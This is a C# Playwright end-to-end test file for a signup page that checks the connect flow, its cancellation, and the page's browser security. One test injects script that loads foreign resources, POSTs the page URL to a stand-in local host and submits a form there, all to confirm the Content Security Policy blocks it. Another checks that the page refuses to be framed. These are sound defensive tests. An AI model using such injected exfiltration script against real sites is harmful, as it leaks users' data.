using System.Collections.Concurrent;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;
using Microsoft.Playwright;
using Parley.Tests.Kit;

namespace Parley.Tests.EndToEnd;

/// <summary>
/// The signup page in a real browser: the one page of Parley's on which somebody else's script runs, here the simulator's in place of Meta's. What
/// the page's policy forbids, the browser refuses.
/// </summary>
public sealed class SignupBrowserTests : DemoInBrowser
{
    private readonly List<string> _requests = [];
    private readonly HttpClient _http = new(new LoopbackOnlyHandler());

    public override async Task InitializeAsync()
    {
        await base.InitializeAsync();
        _http.BaseAddress = new Uri(Silo.Web);
        _http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", Silo.ApiKey);
    }

    public override async Task DisposeAsync()
    {
        _http.Dispose();
        await base.DisposeAsync();
    }

    [Fact]
    [Trait("Promise", "S5.2")]
    public async Task A_customer_connects_a_number_by_clicking_through_the_window()
    {
        var signup = await CreateAsync(new { app = AppName, pin = "123456" });
        var page = await OpenAsync(signup.GetProperty("url").GetString()!);
        Assert.All(_requests, url => Assert.StartsWith(Silo.Web, url, StringComparison.Ordinal));

        // The foreign script comes with the click and not before.
        var window = await page.RunAndWaitForPopupAsync(() => page.Locator("#connect").ClickAsync());
        Assert.Contains(_requests, url => url == $"{Silo.Simulator}/en_US/sdk.js");
        await window.Locator("input[name=business]").FillAsync("Blue <b>Shop</b>");
        await window.GetByRole(AriaRole.Button, new() { Name = "Finish" }).ClickAsync();

        await Assertions.Expect(page.Locator("#state")).ToContainTextAsync("Your number is connected", new() { Timeout = 60_000 });
        await Assertions.Expect(page.Locator("#connect")).ToBeHiddenAsync();
        var done = await JsonAsync(await _http.GetAsync($"/v1/signups/{signup.GetProperty("id").GetString()}"));
        Assert.Equal("CONNECTED", done.GetProperty("state").GetString());
        var session = await JsonAsync(await _http.GetAsync($"/v1/sessions/{done.GetProperty("session").GetString()}"));
        Assert.Equal(done.GetProperty("phoneNumberId").GetString(), session.GetProperty("phoneNumberId").GetString());
        Assert.All(_requests, url => Assert.True(url.StartsWith(Silo.Web, StringComparison.Ordinal) || url.StartsWith(Silo.Simulator, StringComparison.Ordinal), url));
        // The page keeps nothing in the browser.
        Assert.Empty(await page.Context.CookiesAsync([Silo.Web]));
        Assert.Equal(0, await page.EvaluateAsync<int>("localStorage.length + sessionStorage.length"));
        await page.ReloadAsync();
        await Assertions.Expect(page.GetByText("You can close this page")).ToBeVisibleAsync();
    }

    [Fact]
    public async Task Who_closes_the_window_may_try_again()
    {
        var signup = await CreateAsync(new { app = AppName, pin = "123456" });
        var page = await OpenAsync(signup.GetProperty("url").GetString()!);

        var window = await page.RunAndWaitForPopupAsync(() => page.Locator("#connect").ClickAsync());
        await window.GetByRole(AriaRole.Button, new() { Name = "Cancel" }).ClickAsync();

        await Assertions.Expect(page.Locator("#state")).ToContainTextAsync("Nothing was connected");
        await Assertions.Expect(page.Locator("#connect")).ToBeEnabledAsync();
        Assert.Equal("PENDING", (await JsonAsync(await _http.GetAsync($"/v1/signups/{signup.GetProperty("id").GetString()}"))).GetProperty("state").GetString());
    }

    [Fact]
    [Trait("Promise", "S3.5")]
    public async Task The_browser_refuses_what_the_pages_policy_forbids()
    {
        // A browser may open connections in advance; what counts is what it asks and tells there.
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        await using var elsewhere = builder.Build();
        elsewhere.Urls.Add("http://127.0.0.1:0");
        var asked = new ConcurrentQueue<string>();
        elsewhere.Run(http =>
        {
            asked.Enqueue(http.Request.Path);
            return Task.CompletedTask;
        });
        await elsewhere.StartAsync();
        var signup = await CreateAsync(new { app = AppName, pin = "123456" });
        var page = await OpenAsync(signup.GetProperty("url").GetString()!);
        await page.EvaluateAsync(
            """
            elsewhere => {
              window.violations = [];
              document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.effectiveDirective));
              const script = document.createElement('script');
              script.textContent = 'window.ran = true';
              document.head.append(script);
              const foreign = document.createElement('script');
              foreign.src = `${elsewhere}/script.js`;
              document.head.append(foreign);
              const image = new Image();
              image.src = `${elsewhere}/seen.png`;
              const frame = document.createElement('iframe');
              frame.src = `${elsewhere}/frame`;
              document.body.append(frame);
              fetch(`${elsewhere}/tell`, { method: 'POST', body: location.href }).catch(() => {});
              const form = document.createElement('form');
              form.action = `${elsewhere}/form`;
              document.body.append(form);
              form.submit();
            }
            """,
            elsewhere.Urls.Single());

        await page.WaitForFunctionAsync("() => new Set(window.violations).size >= 5", null, new() { Timeout = 60_000 });

        var violations = (await page.EvaluateAsync<string[]>("window.violations")).ToHashSet();
        Assert.Superset(new HashSet<string> { "script-src-elem", "img-src", "frame-src", "connect-src", "form-action" }, violations);
        Assert.False(await page.EvaluateAsync<bool>("window.ran === true"));
        Assert.Empty(asked);
    }

    [Fact]
    [Trait("Promise", "S3.5")]
    public async Task No_other_page_may_show_it_inside_itself()
    {
        var signup = await CreateAsync(new { app = AppName, pin = "123456" });
        var page = await Browser.NewPageAsync();
        await page.SetContentAsync("<h1>Win a prize</h1>");

        var shown = new TaskCompletionSource<bool>(TaskCreationOptions.RunContinuationsAsynchronously);
        page.RequestFailed += (_, request) => shown.TrySetResult(false);
        page.RequestFinished += (_, request) => shown.TrySetResult(true);

        await page.EvaluateAsync("url => { const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame); }", $"{Silo.Web}{signup.GetProperty("url").GetString()}");

        Assert.False(await shown.Task.WaitAsync(TimeSpan.FromSeconds(60)));
        Assert.Equal(0, await page.FrameLocator("iframe").Locator("#connect").CountAsync());
    }

    private string AppName => Silo.Announced.GetProperty("app").GetProperty("name").GetString()!;

    private async Task<JsonElement> CreateAsync(object request) => await JsonAsync(await _http.PostAsJsonAsync("/v1/signups", request));

    private async Task<IPage> OpenAsync(string path)
    {
        var page = await Browser.NewPageAsync();
        page.SetDefaultTimeout(60_000);
        page.Context.Request += (_, request) =>
        {
            if (!request.Url.StartsWith("data:", StringComparison.Ordinal)) lock (_requests) _requests.Add(request.Url);
        };
        await page.GotoAsync(Silo.Web + path);
        return page;
    }

    private static async Task<JsonElement> JsonAsync(HttpResponseMessage response)
    {
        using (response)
        {
            var text = await response.Content.ReadAsStringAsync();
            Assert.True(response.IsSuccessStatusCode, text);
            return JsonDocument.Parse(text).RootElement;
        }
    }
}
